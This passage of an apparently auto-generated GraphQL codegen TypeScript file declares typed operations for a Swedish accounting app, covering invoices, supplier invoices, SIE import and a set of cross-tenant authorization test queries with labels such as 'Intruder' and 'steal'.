 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevBasisRow($id: ID!, $input: AccountingBasisRowInput!) {\n    updateAccountingBasisRow(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateAccountingBasisRowSuccess { data { workType hours reductionAmount amount setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation RevBasisRow($id: ID!, $input: AccountingBasisRowInput!) {\n    updateAccountingBasisRow(id: $id, input: $input) {\n      __typename\n      ... on MutationUpdateAccountingBasisRowSuccess { data { workType hours reductionAmount amount setByHand } }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevRebuild($invoiceId: ID!) {\n    rebuildAccountingBasis(invoiceId: $invoiceId) {\n      __typename\n      ... on MutationRebuildAccountingBasisSuccess { data { accountingBasis { amount workType hours reductionAmount kind } } }\n      ... on Error { code }\n    }\n  }\n"): (typeof documents)["\n  mutation RevRebuild($invoiceId: ID!) {\n    rebuildAccountingBasis(invoiceId: $invoiceId) {\n      __typename\n      ... on MutationRebuildAccountingBasisSuccess { data { accountingBasis { amount workType hours reductionAmount kind } } }\n      ... on Error { code }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevBuyers($invoiceId: ID!, $contactId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount } } } }\n"): (typeof documents)["\n  mutation RevBuyers($invoiceId: ID!, $contactId: ID!) { setInvoiceBuyers(invoiceId: $invoiceId, buyers: [{ contactId: $contactId }]) { __typename ... on MutationSetInvoiceBuyersSuccess { data { taxReductionAmount } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) { __typename } }\n"): (typeof documents)["\n  mutation RevWorkTypes($lineId: ID!, $workTypes: [WorkTypePartInput!]!) { setInvoiceLineWorkTypes(lineId: $lineId, workTypes: $workTypes) { __typename } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } ... on Error { code } }\n  }\n"): (typeof documents)["\n  mutation RevLock($id: ID!) {\n    lockInvoice(id: $id) { __typename ... on MutationLockInvoiceSuccess { data { locked } } ... on ValidationError { issues { path code message } } ... on Error { code } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation RevUnlock($id: ID!) { unlockInvoice(id: $id) { __typename } }"): (typeof documents)["mutation RevUnlock($id: ID!) { unlockInvoice(id: $id) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation RevCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel pris\") {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id subtotal revenueLines { accountNumber amount isBalancePosting } accountingBasis { amount quantity accountNumber reductionAmount } } }\n      ... on Error { code message path }\n    }\n  }\n"): (typeof documents)["\n  mutation RevCredit($id: ID!) {\n    creditInvoice(id: $id, reason: \"Fel pris\") {\n      __typename\n      ... on MutationCreditInvoiceSuccess { data { id subtotal revenueLines { accountNumber amount isBalancePosting } accountingBasis { amount quantity accountNumber reductionAmount } } }\n      ... on Error { code message path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query RevNoPermission($id: ID!) { invoice(id: $id) { id revenueLines { id } } }"): (typeof documents)["query RevNoPermission($id: ID!) { invoice(id: $id) { id revenueLines { id } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SerCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation SerCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SerProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation SerProject($input: CreateProjectInput!) {\n    createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation SerAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"): (typeof documents)["mutation SerAccount($input: CreateAccountInput!) { createAccount(input: $input) { __typename } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SerRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) { __typename ... on Error { code message } }\n  }\n"): (typeof documents)["\n  mutation SerRules($rules: [PostingRuleInput!]!) {\n    setRevenuePostingRules(rules: $rules) { __typename ... on Error { code message } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation ImpSie($file: File!, $mode: SieImportMode, $options: SieImportOptions) {\n    importSie(file: $file, mode: $mode, options: $options) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          mode committed message encoding program sieType\n          accounts { total created updated unchanged skipped errors }\n          costCentres { total created updated unchanged skipped errors }\n          vouchers { total created updated unchanged skipped errors }\n          warnings { line code message }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation ImpSie($file: File!, $mode: SieImportMode, $options: SieImportOptions) {\n    importSie(file: $file, mode: $mode, options: $options) {\n      __typename\n      ... on MutationImportSieSuccess {\n        data {\n          mode committed message encoding program sieType\n          accounts { total created updated unchanged skipped errors }\n          costCentres { total created updated unchanged skipped errors }\n          vouchers { total created updated unchanged skipped errors }\n          warnings { line code message }\n          items { kind line key name outcome errors { line code message } notes { line code message } }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"): (typeof documents)["\n  mutation SieCustomer($input: CreateCustomerInput!) { createCustomer(input: $input) { __typename ... on MutationCreateCustomerSuccess { data { id } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SieProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n"): (typeof documents)["\n  mutation SieProject($input: CreateProjectInput!) { createProject(input: $input) { __typename ... on MutationCreateProjectSuccess { data { id number } } } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiCreate($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess {\n        data {\n          id invoiceNumber invoiceDate dueDate currency net vat total ocr status approvalsRequired disputed externalNumber bookkept createdBy\n          supplierNumber supplierName\n          document { fileName contentType size url }\n          rows { id position accountNumber amount vatRate projectNumber description costCentreCode }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation SiCreate($input: CreateSupplierInvoiceInput!) {\n    createSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationCreateSupplierInvoiceSuccess {\n        data {\n          id invoiceNumber invoiceDate dueDate currency net vat total ocr status approvalsRequired disputed externalNumber bookkept createdBy\n          supplierNumber supplierName\n          document { fileName contentType size url }\n          rows { id position accountNumber amount vatRate projectNumber description costCentreCode }\n        }\n      }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiUpdate($input: UpdateSupplierInvoiceInput!) {\n    updateSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceSuccess { data { id net vat total ocr dueDate status approvals { signature } document { fileName } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation SiUpdate($input: UpdateSupplierInvoiceInput!) {\n    updateSupplierInvoice(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceSuccess { data { id net vat total ocr dueDate status approvals { signature } document { fileName } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiAddRow($input: AddSupplierInvoiceRowInput!) {\n    addSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationAddSupplierInvoiceRowSuccess { data { id approvals { signature } rows { id accountNumber amount projectNumber } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation SiAddRow($input: AddSupplierInvoiceRowInput!) {\n    addSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationAddSupplierInvoiceRowSuccess { data { id approvals { signature } rows { id accountNumber amount projectNumber } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiUpdateRow($input: UpdateSupplierInvoiceRowInput!) {\n    updateSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceRowSuccess { data { id rows { id amount vatRate description } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"): (typeof documents)["\n  mutation SiUpdateRow($input: UpdateSupplierInvoiceRowInput!) {\n    updateSupplierInvoiceRow(input: $input) {\n      __typename\n      ... on MutationUpdateSupplierInvoiceRowSuccess { data { id rows { id amount vatRate description } } }\n      ... on Error { code path }\n      ... on ValidationError { issues { path code } }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiRemoveRow($id: ID!) {\n    removeSupplierInvoiceRow(id: $id) {\n      __typename\n      ... on MutationRemoveSupplierInvoiceRowSuccess { data { id rows { id } } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation SiRemoveRow($id: ID!) {\n    removeSupplierInvoiceRow(id: $id) {\n      __typename\n      ... on MutationRemoveSupplierInvoiceRowSuccess { data { id rows { id } } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiApprove($id: ID!) {\n    approveSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationApproveSupplierInvoiceSuccess { data { id status approvedAt approvals { name signature approvedAt } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"): (typeof documents)["\n  mutation SiApprove($id: ID!) {\n    approveSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationApproveSupplierInvoiceSuccess { data { id status approvedAt approvals { name signature approvedAt } } }\n      ... on Error { code message path }\n      ... on ValidationError { issues { path code message } }\n      ... on ForbiddenError { permission }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiDispute($id: ID!, $reason: String!) {\n    disputeSupplierInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationDisputeSupplierInvoiceSuccess { data { id disputed disputeReason disputedAt } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation SiDispute($id: ID!, $reason: String!) {\n    disputeSupplierInvoice(id: $id, reason: $reason) {\n      __typename\n      ... on MutationDisputeSupplierInvoiceSuccess { data { id disputed disputeReason disputedAt } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation SiUndispute($id: ID!) {\n    undisputeSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationUndisputeSupplierInvoiceSuccess { data { id disputed disputeReason } }\n      ... on Error { code path }\n    }\n  }\n"): (typeof documents)["\n  mutation SiUndispute($id: ID!) {\n    undisputeSupplierInvoice(id: $id) {\n      __typename\n      ... on MutationUndisputeSupplierInvoiceSuccess { data { id disputed disputeReason } }\n      ... on Error { code path }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query SiList($search: String, $filter: SupplierInvoiceFilter) {\n    supplierInvoices(first: 50, search: $search, filter: $filter) { totalCount edges { node { id invoiceNumber status disputed } } }\n  }\n"): (typeof documents)["\n  query SiList($search: String, $filter: SupplierInvoiceFilter) {\n    supplierInvoices(first: 50, search: $search, filter: $filter) { totalCount edges { node { id invoiceNumber status disputed } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query SiNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber status } } }"): (typeof documents)["query SiNode($id: ID!) { node(id: $id) { id ... on SupplierInvoice { invoiceNumber status } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query SiVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType size url } } } } }"): (typeof documents)["query SiVoucherFiles { vouchers(first: 10) { edges { node { remoteId files { id fileName contentType size url } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantSeed($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { message }\n    }\n  }\n"): (typeof documents)["\n  mutation TenantSeed($input: CreateCustomerInput!) {\n    createCustomer(input: $input) {\n      __typename\n      ... on MutationCreateCustomerSuccess { data { id number contacts(first: 5) { edges { node { id } } } } }\n      ... on Error { message }\n    }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantSeedField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantSeedField($input: CreateCustomFieldDefinitionInput!) {\n    createCustomFieldDefinition(input: $input) { __typename ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantSeedGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) { __typename ... on MutationCreateGroupSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantSeedGroup($input: CreateGroupInput!) {\n    createGroup(input: $input) { __typename ... on MutationCreateGroupSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantSeedUser($input: CreateUserInput!) {\n    createUser(input: $input) { __typename ... on MutationCreateUserSuccess { data { id } } }\n  }\n"): (typeof documents)["\n  mutation TenantSeedUser($input: CreateUserInput!) {\n    createUser(input: $input) { __typename ... on MutationCreateUserSuccess { data { id } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  mutation TenantSeedToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) { __typename ... on MutationCreateApiTokenSuccess { data { apiToken { id } } } }\n  }\n"): (typeof documents)["\n  mutation TenantSeedToken($input: CreateApiTokenInput!) {\n    createApiToken(input: $input) { __typename ... on MutationCreateApiTokenSuccess { data { apiToken { id } } } }\n  }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "\n  query TenantSeedTerms { paymentTerms { id } me { id } }\n"): (typeof documents)["\n  query TenantSeedTerms { paymentTerms { id } me { id } }\n"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantApiTokens { apiTokens(includeRevoked: true) { id name tokenPrefix user { id name } } }"): (typeof documents)["query TenantApiTokens { apiTokens(includeRevoked: true) { id name tokenPrefix user { id name } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantCompany { company { id name } }"): (typeof documents)["query TenantCompany { company { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantFieldDefs { customFieldDefinitions(includeInactive: true) { id key label } }"): (typeof documents)["query TenantFieldDefs { customFieldDefinitions(includeInactive: true) { id key label } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantCustomer($id: ID!) { customer(id: $id) { id name } }"): (typeof documents)["query TenantCustomer($id: ID!) { customer(id: $id) { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantCustomerByNumber($number: String!) { customerByNumber(number: $number) { id name } }"): (typeof documents)["query TenantCustomerByNumber($number: String!) { customerByNumber(number: $number) { id name } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantCustomers($search: String) { customers(search: $search, first: 200) { totalCount edges { node { id name email contacts(first: 5) { edges { node { id name } } } } } } }"): (typeof documents)["query TenantCustomers($search: String) { customers(search: $search, first: 200) { totalCount edges { node { id name email contacts(first: 5) { edges { node { id name } } } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantGroups { groups { id name members { id name } } }"): (typeof documents)["query TenantGroups { groups { id name members { id name } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantMe { me { id name email } }"): (typeof documents)["query TenantMe { me { id name email } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantNode($id: ID!) { node(id: $id) { id ... on Customer { name } ... on Contact { name } ... on User { name email } } }"): (typeof documents)["query TenantNode($id: ID!) { node(id: $id) { id ... on Customer { name } ... on Contact { name } ... on User { name email } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantNodes($ids: [ID!]!) { nodes(ids: $ids) { id } }"): (typeof documents)["query TenantNodes($ids: [ID!]!) { nodes(ids: $ids) { id } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantPaymentTerms { paymentTerms(includeInactive: true) { id code } }"): (typeof documents)["query TenantPaymentTerms { paymentTerms(includeInactive: true) { id code } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantPermissions { permissions { permission description } }"): (typeof documents)["query TenantPermissions { permissions { permission description } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "query TenantUsers { users(first: 100, includeInactive: true) { edges { node { id name email } } } }"): (typeof documents)["query TenantUsers { users(first: 100, includeInactive: true) { edges { node { id name email } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantActivate($id: ID!) { activateCustomer(id: $id) { __typename ... on Error { code } ... on MutationActivateCustomerSuccess { data { id name } } } }"): (typeof documents)["mutation TenantActivate($id: ID!) { activateCustomer(id: $id) { __typename ... on Error { code } ... on MutationActivateCustomerSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantAddContact($customerId: ID!) { addContact(customerId: $customerId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationAddContactSuccess { data { id customer { name } } } } }"): (typeof documents)["mutation TenantAddContact($customerId: ID!) { addContact(customerId: $customerId, input: { name: \"Intruder\" }) { __typename ... on Error { code } ... on MutationAddContactSuccess { data { id customer { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on Error { code } ... on MutationAssignCustomerSuccess { data { id assignedUser { name } } } } }"): (typeof documents)["mutation TenantAssign($id: ID!, $userId: ID) { assignCustomer(id: $id, userId: $userId) { __typename ... on Error { code } ... on MutationAssignCustomerSuccess { data { id assignedUser { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantChangeNumber($id: ID!) { changeCustomerNumber(id: $id, number: \"666\") { __typename ... on Error { code } ... on MutationChangeCustomerNumberSuccess { data { id name } } } }"): (typeof documents)["mutation TenantChangeNumber($id: ID!) { changeCustomerNumber(id: $id, number: \"666\") { __typename ... on Error { code } ... on MutationChangeCustomerNumberSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCopy($customerId: ID!) { copyCustomerToContact(customerId: $customerId) { __typename ... on Error { code } ... on MutationCopyCustomerToContactSuccess { data { id name } } } }"): (typeof documents)["mutation TenantCopy($customerId: ID!) { copyCustomerToContact(customerId: $customerId) { __typename ... on Error { code } ... on MutationCopyCustomerToContactSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateToken($userId: ID) { createApiToken(input: { name: \"steal\", userId: $userId }) { __typename ... on Error { code } ... on MutationCreateApiTokenSuccess { data { token apiToken { user { name } } } } } }"): (typeof documents)["mutation TenantCreateToken($userId: ID) { createApiToken(input: { name: \"steal\", userId: $userId }) { __typename ... on Error { code } ... on MutationCreateApiTokenSuccess { data { token apiToken { user { name } } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateField { createCustomFieldDefinition(input: { key: \"secretField\", label: \"x\", type: TEXT }) { __typename ... on Error { code } ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } } }"): (typeof documents)["mutation TenantCreateField { createCustomFieldDefinition(input: { key: \"secretField\", label: \"x\", type: TEXT }) { __typename ... on Error { code } ... on MutationCreateCustomFieldDefinitionSuccess { data { id } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateCustomer($paymentTermId: ID, $assignedUserId: ID) { createCustomer(input: { name: \"Intruder\", number: \"B-777\", paymentTermId: $paymentTermId, assignedUserId: $assignedUserId }) { __typename ... on Error { code } ... on ValidationError { issues { path code } } ... on MutationCreateCustomerSuccess { data { id paymentTerm { id } assignedUser { id } } } } }"): (typeof documents)["mutation TenantCreateCustomer($paymentTermId: ID, $assignedUserId: ID) { createCustomer(input: { name: \"Intruder\", number: \"B-777\", paymentTermId: $paymentTermId, assignedUserId: $assignedUserId }) { __typename ... on Error { code } ... on ValidationError { issues { path code } } ... on MutationCreateCustomerSuccess { data { id paymentTerm { id } assignedUser { id } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateGroup { createGroup(input: { name: \"Victim admins\", permissions: [ADMIN_USERS] }) { __typename ... on Error { code } ... on MutationCreateGroupSuccess { data { id members { name } } } } }"): (typeof documents)["mutation TenantCreateGroup { createGroup(input: { name: \"Victim admins\", permissions: [ADMIN_USERS] }) { __typename ... on Error { code } ... on MutationCreateGroupSuccess { data { id members { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantCreateUser($groupIds: [ID!]) { createUser(input: { name: \"Mole\", email: \"mole@a.se\", signature: \"MOLE\", groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationCreateUserSuccess { data { id groups { name } } } } }"): (typeof documents)["mutation TenantCreateUser($groupIds: [ID!]) { createUser(input: { name: \"Mole\", email: \"mole@a.se\", signature: \"MOLE\", groupIds: $groupIds }) { __typename ... on Error { code } ... on MutationCreateUserSuccess { data { id groups { name } } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteField($id: ID!) { deleteCustomFieldDefinition(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteField($id: ID!) { deleteCustomFieldDefinition(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteCustomer($id: ID!) { deleteCustomer(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantDeleteGroup($id: ID!) { deleteGroup(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantDeleteGroup($id: ID!) { deleteGroup(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename ... on Error { code } ... on MutationInactivateCustomerSuccess { data { id name } } } }"): (typeof documents)["mutation TenantInactivate($id: ID!) { inactivateCustomer(id: $id) { __typename ... on Error { code } ... on MutationInactivateCustomerSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }"): (typeof documents)["mutation TenantRemoveContact($id: ID!) { removeContact(id: $id) { __typename ... on Error { code } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantRevoke($id: ID!) { revokeApiToken(id: $id) { __typename ... on Error { code } ... on MutationRevokeApiTokenSuccess { data { id name } } } }"): (typeof documents)["mutation TenantRevoke($id: ID!) { revokeApiToken(id: $id) { __typename ... on Error { code } ... on MutationRevokeApiTokenSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantSettings { updateCompanySettings(input: { name: \"Renamed A\" }) { __typename ... on Error { code } ... on MutationUpdateCompanySettingsSuccess { data { id name } } } }"): (typeof documents)["mutation TenantSettings { updateCompanySettings(input: { name: \"Renamed A\" }) { __typename ... on Error { code } ... on MutationUpdateCompanySettingsSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateContact($id: ID!) { updateContact(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateContactSuccess { data { id name } } } }"): (typeof documents)["mutation TenantUpdateContact($id: ID!) { updateContact(id: $id, input: { name: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateContactSuccess { data { id name } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
export function graphql(source: "mutation TenantUpdateField($id: ID!) { updateCustomFieldDefinition(input: { id: $id, label: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomFieldDefinitionSuccess { data { id label } } } }"): (typeof documents)["mutation TenantUpdateField($id: ID!) { updateCustomFieldDefinition(input: { id: $id, label: \"Hacked\" }) { __typename ... on Error { code } ... on MutationUpdateCustomFieldDefinitionSuccess { data { id label } } } }"];
/**
 * The graphql function is used to parse GraphQL queries into a document that can be used by GraphQL clients.
 */
